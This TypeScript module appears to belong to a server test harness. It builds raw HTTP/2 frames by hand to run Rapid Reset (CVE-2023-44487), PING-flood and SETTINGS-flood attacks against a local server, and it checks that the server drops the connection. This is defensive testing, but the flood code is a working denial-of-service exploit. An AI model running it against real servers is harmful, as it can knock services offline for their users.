// The known attacks on HTTP/2, frame by frame: each costs whoever answers more than who asks, so a connection that does it is ended. What
// else goes on notices nothing. Written by hand, as no client library would do it.
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { TIMEOUT_MS } from './limits.js';
import type { ClientContext, Workload } from './workload.js';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const FRAME = { HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7 } as const;
const END_STREAM_AND_HEADERS = 5;
/** GET http://bench/slow?ms=1000: static fields, and literal ones that the table does not keep. */
const REQUEST = Buffer.concat([
  Buffer.from([0x82, 0x86, 0x01, 5]),
  Buffer.from('bench'),
  Buffer.from([0x04, 13]),
  Buffer.from('/slow?ms=1000'),
]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
/** Far more than anybody allows. */
const MAX_FRAMES = 50_000;
const BATCH = 100;

function frame(type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Sends batches until the connection is ended, by GOAWAY or altogether. */
async function flood(context: ClientContext, batch: (at: number) => Buffer): Promise<void> {
  const socket = connect({ port: context.ports.web, host: '127.0.0.1', noDelay: true });
  let ended = false;
  const end = new Promise<void>((resolve) => {
    const now = (): void => {
      ended = true;
      resolve();
    };
    socket.on('error', () => undefined).once('close', now);
    watchForGoaway(socket, now);
  });
  socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0)]));
  for (let at = 0; at < MAX_FRAMES && !ended && !socket.destroyed; at += BATCH) {
    if (socket.write(batch(at))) await new Promise(setImmediate);
    else await new Promise<void>((resolve) => socket.once('drain', resolve).once('close', resolve));
  }
  // All of it may lie in the kernel's buffers before the first of it is read.
  await Promise.race([end, delay(TIMEOUT_MS, undefined, { ref: false })]);
  socket.destroy();
  if (!ended) throw new Error(`a flood of ${MAX_FRAMES} was tolerated`);
  // Hundreds of requests came through to the endpoint, and a Node.js server accepts one connection a turn of its loop.
  await delay(context.random.integer(3000, 9000));
}

function watchForGoaway(socket: Socket, onGoaway: () => void): void {
  let buffered = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    buffered = Buffer.concat([buffered, chunk]);
    for (;;) {
      const length = buffered.length < 9 ? Number.POSITIVE_INFINITY : 9 + buffered.readUIntBE(0, 3);
      if (buffered.length < length) return;
      if (buffered[3] === FRAME.GOAWAY) onGoaway();
      buffered = buffered.subarray(length);
    }
  });
}

/** As many as a batch has, one after the other. */
const each = (make: (i: number) => Buffer): Buffer => Buffer.concat(Array.from({ length: BATCH }, (_, i) => make(i)));

/** CVE-2023-44487: each request is taken back at once. */
const rapidResets = (context: ClientContext) =>
  flood(context, (at) =>
    each((i) => {
      const stream = 2 * (at + i) + 1;
      return Buffer.concat([
        frame(FRAME.HEADERS, END_STREAM_AND_HEADERS, stream, REQUEST),
        frame(FRAME.RST_STREAM, 0, stream, CANCEL),
      ]);
    }),
  );

const pings = (context: ClientContext) => flood(context, () => each(() => frame(FRAME.PING, 0, 0, Buffer.alloc(8))));

const settings = (context: ClientContext) => flood(context, () => each(() => frame(FRAME.SETTINGS, 0, 0)));

export const FLOOD_WORKLOADS: readonly Workload[] = [
  { name: 'flood-resets', concurrency: 1, run: rapidResets },
  { name: 'flood-pings', concurrency: 1, run: pings },
  { name: 'flood-settings', concurrency: 1, run: settings },
];
